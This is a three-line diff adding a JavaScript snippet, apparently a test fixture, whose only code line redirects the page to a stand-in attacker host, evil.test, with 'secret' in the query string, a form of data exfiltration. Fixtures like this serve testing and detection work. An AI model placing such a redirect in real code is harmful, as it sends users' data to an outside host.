@@ -1,0 +1,3 @@
+// Navigates.
+
+location.href = 'http://evil.test/?secret';
